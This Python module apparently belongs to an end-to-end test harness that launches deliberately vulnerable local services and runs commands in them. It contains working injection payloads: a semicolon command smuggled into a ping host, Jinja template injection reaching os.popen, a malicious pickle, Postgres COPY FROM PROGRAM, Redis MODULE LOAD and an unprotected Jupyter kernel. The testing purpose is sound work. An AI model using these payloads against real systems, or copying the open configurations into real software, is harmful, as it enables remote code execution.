"""Real services: their files, their commands, and the hole through which a command comes in."""

import base64
import os
import pickle
import shutil
import socket
import struct
import subprocess
import time
import urllib.error
import urllib.parse
import urllib.request
import zlib
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path

from e2e.real import apps
from e2e.real.places import IMAGE, Container, Place

TOOLS = Path(os.environ.get("E2E_REAL_TOOLS", "/opt/e2e-real"))
"""A folder with a Python environment `venv` (gunicorn, flask, uvicorn, jupyter_server, pytest) and `node24`."""

VENV = TOOLS / "venv/bin"
POSTGRES = Path("/usr/lib/postgresql/15/bin")
TOMCAT = Path("/usr/share/tomcat10")
PORTS = count(18100)


@dataclass(frozen=True)
class Service:
    """A kind of service; FOLDER and PORT are filled in."""

    name: str
    files: Mapping[str, str]
    commands: Sequence[Sequence[str]]
    inject: Callable[["Running", str], str]
    needs: Sequence[str] = ()
    is_web: bool = True
    page: str = "/"
    prepare: Callable[["Running"], None] = lambda running: None

    @property
    def missing(self) -> list[str]:
        """The programs that this machine lacks."""
        return [program for program in (self.commands[0][0], *self.needs) if not _is_there(program)]


@dataclass
class Running:
    """A service that was started somewhere."""

    service: Service
    place: Place
    port: int = field(default_factory=lambda: next(PORTS))

    @property
    def folder(self) -> Path:
        """Its files: in the image of a container."""
        return IMAGE / self.place.name

    @property
    def url(self) -> str:
        """Where it answers."""
        return f"http://127.0.0.1:{self.port}"

    def fill(self, text: str) -> str:
        """A text of the recipe for this run."""
        return text.replace("FOLDER", str(self.folder)).replace("PORT", str(self.port))

    def start(self) -> None:
        """Write its files, start it, and wait until it answers."""
        for part in ("run", "files", "www"):
            (self.folder / part).mkdir(parents=True, exist_ok=True)
        for name, text in {"jobs": apps.JOBS.lstrip(), **self.service.files}.items():
            file = self.folder / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(self.fill(text))
            file.chmod(0o755)
        (self.folder / "in.png").write_bytes(picture())
        self.service.prepare(self)
        for part in ("www", "files", "run"):
            shutil.chown(self.folder / part, "www-data")
        self.place.start([[*map(self.fill, command)] for command in self.service.commands])
        self.await_port()

    def await_port(self, seconds: float = 120) -> None:
        """Wait until something listens."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            with socket.socket() as probe:
                if not self.port or probe.connect_ex(("127.0.0.1", self.port)) == 0:
                    return
            time.sleep(0.05)
        raise TimeoutError(f"{self.place.name} does not listen: {self.place.output.read_text()[-600:]}")

    def ask(self, path: str = "/", body: bytes | None = None, seconds: float = 60, **query: str) -> str:
        """One HTTP request; "" if it fails."""
        url = f"{self.url}{path}" + (f"?{urllib.parse.urlencode(query)}" if query else "")
        request = urllib.request.Request(url, data=body, method="PUT" if body else "GET")  # noqa: S310 - ours
        try:
            with urllib.request.urlopen(request, timeout=seconds) as answer:  # noqa: S310
                return str(answer.read().decode(errors="replace"))
        except urllib.error.HTTPError as refused:
            return f"{refused.code} {refused.read().decode(errors='replace')[:300]}"
        except OSError as lost:
            return f"lost: {lost}"

    def end(self) -> None:
        """End it with all it started."""
        self.place.end()
        shutil.rmtree(self.folder, ignore_errors=True)


def picture() -> bytes:
    """A grey PNG of 64 by 64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"".join(b"\0" + bytes([row * 3] * 64) for row in range(64)))
    head = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _is_there(program: str) -> bool:
    return program.startswith("FOLDER/") or bool(shutil.which(program))


def _ping(running: Running, command: str) -> str:
    """The classic: a host name that goes on with a command."""
    return running.ask(running.service.page, do="ping", host=f"localhost;{command}")


def _template(running: Running, command: str) -> str:
    """Jinja gives everything to whoever writes the template."""
    words = base64.b64encode(command.encode()).decode()
    code = (
        "cycler.__init__.__globals__.__builtins__.__import__('base64').b64decode('" + words + "').decode()"  # no quotes
    )
    return running.ask(name="{{ cycler.__init__.__globals__.os.popen(" + code + ").read() }}")


def _pickle(running: Running, command: str) -> str:
    """A pickle that calls subprocess.getoutput when it is read."""
    order = type("Order", (), {"__reduce__": lambda self: (subprocess.getoutput, (command,))})()
    basket = pickle.dumps(order)
    return running.ask(basket=base64.urlsafe_b64encode(basket).decode())


def _sql(running: Running, command: str) -> str:
    """COPY FROM PROGRAM, which a database's superuser may."""
    quoted = command.replace("'", "''")
    sql = f"CREATE TEMP TABLE t(line text); COPY t FROM PROGRAM '{quoted}'; SELECT * FROM t"  # noqa: S608 - an injection is the point
    words = ["psql", "-h", "127.0.0.1", "-p", str(running.port), "-U", "postgres", "-qtAc", sql]
    return _output(words)


def _module(running: Running, command: str) -> str:
    """MODULE LOAD of a library that runs its argument; what it prints goes to a file that the log shows."""
    library = f"{running.folder}/files/exp.so"
    words = f"({command}) > {running.folder}/run/said 2>&1"
    asked = ["redis-cli", "-p", str(running.port), "MODULE", "LOAD", library, words]
    refused = _output(asked)
    said = running.place.path(f"{running.folder}/run/said")
    return said.read_text(errors="replace") if said.exists() else refused


def has_terminal(command: str) -> bool:
    """Whether a notebook's user types a command as `!command`, which gives it a terminal: if it has nothing to expand."""
    return not any(special in command for special in "\n{$")


def _kernel(running: Running, command: str) -> str:
    """A cell of a notebook that nobody protects."""
    cell = f"import subprocess; print(subprocess.run({command!r}, shell=True, capture_output=True, text=True).stdout)"
    cell = f"!{command}" if has_terminal(command) else cell
    return _output([str(VENV / "python"), f"{running.folder}/ask.py", running.url, cell])


def _output(words: Sequence[str]) -> str:
    with suppress(subprocess.TimeoutExpired):
        run = subprocess.run(words, capture_output=True, timeout=60, check=False, stdin=subprocess.DEVNULL)
        return (run.stdout + run.stderr).decode(errors="replace")
    return ""


def _prepare_go(running: Running) -> None:
    words = ["go", "build", "-o", "server", "x.go"]
    environment = os.environ | {"GOFLAGS": "-mod=mod", "GO111MODULE": "off"}
    subprocess.run(words, cwd=running.folder, check=True, env=environment)


def _prepare_tomcat(running: Running) -> None:
    for part in ("webapps/ROOT", "temp", "work", "logs"):
        (running.folder / part).mkdir(parents=True, exist_ok=True)


def _prepare_postgres(running: Running) -> None:
    data = running.folder / "data"
    data.mkdir()
    shutil.chown(data, "postgres", "postgres")
    words = ["setpriv", "--reuid=postgres", "--regid=postgres", "--clear-groups", str(POSTGRES / "initdb")]
    subprocess.run([*words, "-A", "trust", "-N", "-D", str(data)], check=True, capture_output=True, cwd="/")
    with (data / "postgresql.conf").open("a") as settings:
        settings.write(
            "archive_mode = on\n"
            f"archive_command = 'test ! -f {running.folder}/files/%f && cp %p {running.folder}/files/%f'\n"
            f"unix_socket_directories = '{running.folder}/data'\n"
        )
    (running.folder / "files").chmod(0o777)


def _prepare_redis(running: Running) -> None:
    source = running.folder / "exp.c"
    library = running.folder / "files/exp.so"
    subprocess.run(["cc", "-shared", "-fPIC", "-o", library, source], check=True)


GUNICORN = [str(VENV / "gunicorn"), "-w", "2", "-b", "127.0.0.1:PORT", "--chdir", "FOLDER", "app:app"]
JUPYTER_OPTIONS = [
    *("--allow-root", "--no-browser", "--ip=127.0.0.1", "--port=PORT", "--ServerApp.disable_check_xsrf=True"),
    *("--ServerApp.root_dir=FOLDER", "--IdentityProvider.token=", "--ServerApp.password="),
]

SERVICES = {
    service.name: service
    for service in (
        Service(
            "apache-php",
            {"httpd.conf": apps.APACHE, "www/index.php": apps.PHP},
            [["apache2", "-DFOREGROUND", "-d", "FOLDER", "-f", "FOLDER/httpd.conf"]],
            _ping,
            page="/index.php",
        ),
        Service(
            "nginx-fpm",
            {"nginx.conf": apps.NGINX, "fpm.conf": apps.PHP_FPM, "www/index.php": apps.PHP},
            [["php-fpm8.2", "-F", "-y", "FOLDER/fpm.conf"], ["nginx", "-c", "FOLDER/nginx.conf"]],
            _ping,
            ["nginx"],
            page="/index.php",
        ),
        Service(
            "lighttpd-cgi",
            {"lighttpd.conf": apps.LIGHTTPD, "www/index.cgi": apps.CGI},
            [["lighttpd", "-D", "-f", "FOLDER/lighttpd.conf"]],
            _ping,
        ),
        Service("node", {"app.js": apps.NODE}, [["node", "FOLDER/app.js"]], _ping),
        Service(
            "node24",
            {"app.js": apps.NODE},
            [[str(TOOLS / "node24/node_modules/node/bin/node"), "FOLDER/app.js"]],
            _ping,
        ),
        Service("gunicorn-flask", {"app.py": apps.FLASK}, [GUNICORN], _template),
        Service(
            "uvicorn-workers",
            {"app.py": apps.ASGI},
            [[str(VENV / "uvicorn"), "--workers", "2", "--port", "PORT", "--app-dir", "FOLDER", "app:app"]],
            _pickle,
        ),
        Service("go", {"x.go": apps.GO}, [["FOLDER/server"]], _ping, ["go"], prepare=_prepare_go),
        Service(
            "tomcat",
            {"conf/server.xml": apps.SERVER_XML, "conf/web.xml": apps.WEB_XML, "webapps/ROOT/index.jsp": apps.JSP},
            [["env", "CATALINA_BASE=FOLDER", f"CATALINA_HOME={TOMCAT}", f"{TOMCAT}/bin/catalina.sh", "run"]],
            _ping,
            [f"{TOMCAT}/bin/catalina.sh"],
            page="/index.jsp",
            prepare=_prepare_tomcat,
        ),
        Service("puma", {"config.ru": apps.RACK}, [["puma", "-b", "tcp://127.0.0.1:PORT", "FOLDER/config.ru"]], _ping),
        Service(
            "supervisor-gunicorn",
            {"supervisord.conf": apps.SUPERVISOR.replace("GUNICORN", str(VENV / "gunicorn")), "app.py": apps.FLASK},
            [["supervisord", "-n", "-c", "FOLDER/supervisord.conf"]],
            _template,
            [str(VENV / "gunicorn")],
        ),
        Service(
            "postgres",
            {},
            [
                [
                    *("setpriv", "--reuid=postgres", "--regid=postgres", "--clear-groups", str(POSTGRES / "postgres")),
                    *("-D", "FOLDER/data", "-p", "PORT", "-h", "127.0.0.1"),
                ]
            ],
            _sql,
            [str(POSTGRES / "postgres"), "psql"],
            is_web=False,
            prepare=_prepare_postgres,
        ),
        Service(
            "redis",
            {"exp.c": apps.REDIS_MODULE},
            [["redis-server", "--port", "PORT", "--dir", "FOLDER/run", "--enable-module-command", "yes"]],
            _module,
            ["redis-cli", "cc"],
            is_web=False,
            prepare=_prepare_redis,
        ),
        Service(
            "jupyter",
            {"ask.py": apps.JUPYTER_ASK},
            [[str(VENV / "jupyter-server"), *JUPYTER_OPTIONS]],
            _kernel,
            is_web=False,
        ),
    )
}


def place(kind: str, name: str) -> Place:
    """A new place of a kind, `host` or `container`."""
    return Container(name) if kind == "container" else Place(name)
